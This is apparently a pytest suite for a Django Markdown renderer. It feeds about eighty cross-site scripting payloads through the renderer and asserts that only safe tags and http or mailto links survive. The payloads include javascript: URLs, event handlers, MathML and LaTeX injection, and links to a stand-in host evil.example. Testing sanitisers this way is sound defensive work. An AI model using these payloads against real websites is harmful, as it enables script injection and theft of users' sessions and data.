"""The one renderer: hostile Markdown comes out as plain words and safe links."""

import re
from pathlib import Path

import pytest
from bs4 import BeautifulSoup
from django.conf import settings
from hypothesis import given
from hypothesis import strategies as st

from reports.text import _CLEANER, plain, render

TAGS = {
    "a", "blockquote", "br", "code", "em", "h4", "h5", "h6", "hr", "li", "ol", "p", "pre",
    "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
MATH = {
    "math", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "mspace",
    "msqrt", "mstyle", "msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder",
    "munderover", "menclose", "mmultiscripts",
}  # fmt: skip
LOOKS = {
    "accent", "columnalign", "depth", "display", "displaystyle", "fence", "form", "height",
    "largeop", "linethickness", "lspace", "mathvariant", "maxsize", "minsize", "movablelimits",
    "rspace", "scriptlevel", "separator", "stretchy", "width",
}  # fmt: skip
BOX = {
    "class": ["table-scroll"], "role": "region", "tabindex": "0", "aria-label": "Table"
}  # fmt: skip
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text x=20 y=20>x</text></a></svg>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x</mi></math>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<form action='https://evil.example'><input name=token></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<details open ontoggle=alert(1)>",
    "<!--><script>alert(1)</script-->",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](/moderation/1/accept/)",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <javascript:alert(1)> 'title'",
    "[javascript:alert(1)]\n\n[javascript:alert(1)]: vbscript:x",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    '[x](https://example.org "onmouseover=alert(1)")',
    '[x](https://example.org/"onmouseover="alert(1))',
    '[[x](javascript:a)](https://example.org/"><script>alert(1)</script>)',
    "> 1. - [x](javascript:alert(1))\n>   <img src=x onerror=alert(1)>",
    "| a | b |\n|:--|--:|\n| <script>alert(1)</script> | [x](vbscript:a) |",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "# <svg/onload=alert(1)>\n\n###### [x](data:,x)",
    "`<script>`\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "[x](https://user@evil.example\u202egro.elpmaxe)",
    # formulas
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;img src=x onerror=alert(1)&gt;}$",
    r"$\mathrm{&#60;script&#62;alert(1)&#60;/script&#62;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\class{a\" onclick=alert(1) x=}{x}$",
    r"$\style{background:url(javascript:alert(1))}{x}$",
    r"$\cssId{main}{x}$ $\html{<script>alert(1)</script>}$",
    r"$\color{red\" onmouseover=\"alert(1)}{x}$ $\colorbox{a\" b=\"c}{x}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\rule{9999em}{9999em}$ $\hspace{-999em}x$ $\kern{-99em}x$",
    r"$\operatorname{<svg onload=alert(1)>}$",
    r"$\begin{array}{c\" onclick=\"alert(1)}x\end{array}$",
    r"$\left<script\right>alert(1)$",
    r"$</math><script>alert(1)</script>$",
    r"$$</mtext><img src=x onerror=alert(1)>$$",
    r"\(\text{</mtext></math><svg onload=alert(1)>}\)",
    r"\[\text{<annotation-xml encoding=text/html><script>alert(1)</script>}\]",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=a>">',
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#x' xlink:href='javascript:alert(1)'>x</maction></math>",
    r"$\text{<mglyph><style>}$ <img src=x onerror=alert(1)>",
    "$$\n<script>alert(1)</script>\n$$",
    "| $<script>$ | $a|b$ |\n|--|--|\n| $\\text{</td></table>}$ | <svg/onload=a> |",
    "[$x$](javascript:alert(1)) $[x](javascript:alert(1))$",
    r"$\newcommand{\a}{\b\b}\newcommand{\b}{<script>}\a$",
    "`$<script>$` $`<script>`$",
    '</table></div><div role="region" onclick="a">',
    '<div class="table-scroll"><table onclick=alert(1)>',
]


def assert_harmless(html: str) -> None:
    """No element, attribute or address beyond those that the renderer promises."""
    soup = BeautifulSoup(html, "html.parser")
    for element in soup.find_all(True):
        if element.name == "div":
            assert element.attrs == BOX
            assert [child.name for child in element.children] == ["table"]
            continue
        if element.name in MATH:
            assert element.name == "math" or element.find_parent("math") is not None
            assert set(element.attrs) <= LOOKS
            assert all(re.fullmatch(r"[a-z0-9 .-]+", str(x)) for x in element.attrs.values())
            continue
        assert element.name in TAGS and element.find_parent("math") is None
        assert set(element.attrs) <= {"href", "rel", "start"}
        if element.name == "a" and "href" in element.attrs:
            assert re.match(r"(https?|mailto):", str(element["href"]), re.IGNORECASE)
        if element.name == "a":
            assert element["rel"] == ["nofollow", "noopener", "ugc"]
        if "start" in element.attrs:
            assert str(element["start"]).isdigit()


def test_there_are_at_least_sixty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 60


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_markdown_is_harmless(payload: str) -> None:
    assert_harmless(render(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_browser_reads_it_as_it_is_written(payload: str) -> None:
    """Read by the parser of a browser (html5ever) and written again it is the same, so nothing
    changes its meaning on the way to a page."""
    html = re.sub('<div class="table-scroll"[^>]*>|</div>', "", render(payload))
    again = _CLEANER.clean(html)
    assert again == html
    assert _CLEANER.clean(f"<div>{html}</div>") == html


@given(
    st.text(alphabet="<>[]()!:/\"'`#&;*_|-=\\\n\t $ajvscriptonerdhftp.x1\u202e\x00", max_size=80)
)
def test_any_text_is_harmless(text: str) -> None:
    assert_harmless(render(text))


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "<b>bold</b>", "a < b & c"])
def test_raw_html_is_shown_as_it_was_typed(payload: str) -> None:
    assert BeautifulSoup(render(payload), "html.parser").get_text().strip() == payload


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[x](https://example.org/a?b=c&d=e)", "https://example.org/a?b=c&d=e"),
        ("<http://example.org/>", "http://example.org/"),
        ("<author@example.org>", "mailto:author@example.org"),
        ("[x][r]\n\n[r]: HTTPS://example.org", "HTTPS://example.org"),
    ],
)
def test_links_to_other_sites_work(text: str, href: str) -> None:
    link = BeautifulSoup(render(text), "html.parser").a
    assert link is not None
    assert link["href"] == href
    assert link["rel"] == ["nofollow", "noopener", "ugc"]


def test_markdown_and_tables_are_rendered() -> None:
    html = render("We **re-ran** it:\n\n| seed | BLEU |\n|---|---:|\n| 1 | 27.3 |")
    soup = BeautifulSoup(html, "html.parser")
    assert [cell.get_text() for cell in soup.find_all(["th", "td"])] == [
        "seed",
        "BLEU",
        "1",
        "27.3",
    ]
    assert "<strong>re-ran</strong>" in html


def test_headings_come_below_those_of_the_page() -> None:
    assert render("# a\n## b\n### c\n\nd\n=") == (
        "<h4>a</h4>\n<h5>b</h5>\n<h6>c</h6>\n<h4>d</h4>\n"
    )


def test_plain_drops_what_no_text_needs_and_keeps_every_script() -> None:
    assert plain("a\x00b\x1b[31m\x7f\x85c\u202ed\u2066e\ufeff\ud800") == "ab[31mcde"
    assert plain("line\r\nline\rline\u2028\ttab") == "line\nline\nline\n\ttab"
    kept = "שלום مرحبا 你好 Sträßle ಠ 👩‍🔬 e\u0301 \u200fRTL mark"
    assert plain(kept) == kept


def test_nothing_else_marks_text_as_safe() -> None:
    """Rule of the house: no `mark_safe`, `|safe` or `autoescape off` outside reports/text.py."""
    root = Path(settings.BASE_DIR)
    rooms = [root / r for r in ("accounts", "config", "notifications", "registry", "reports")]
    found = [
        str(path.relative_to(root))
        for room in rooms
        for path in room.rglob("*.py")
        if re.search(r"mark_safe|SafeString\(|__html__", path.read_text("utf-8"))
    ]
    assert found == ["reports/text.py"]
    found = [
        str(path.relative_to(root))
        for path in (root / "templates").rglob("*")
        if path.is_file()
        and re.search(r"\|\s*safe\b|autoescape\s+off", path.read_text("utf-8"))
        and not path.match("*.txt")
    ]
    assert found == []
